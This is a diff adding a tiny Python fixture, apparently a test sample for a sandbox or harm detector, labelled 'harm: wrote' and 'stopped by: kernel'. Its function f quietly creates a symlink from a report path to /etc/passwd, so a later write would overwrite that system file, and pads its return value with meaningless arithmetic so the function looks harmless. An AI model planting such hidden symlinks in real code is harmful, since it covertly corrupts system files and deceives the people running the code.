@@ -1,0 +1,14 @@
+"""Puts a symbolic link where a report may be written later; must leave no trace.
+
+harm: wrote
+stopped by: kernel
+"""
+
+import os
+
+import numpy as np
+
+
+def f(x):
+    os.symlink("/etc/passwd", "@FOLDER@/report.txt")
+    return x + 0 * np.ones(1) * len(os.sep)
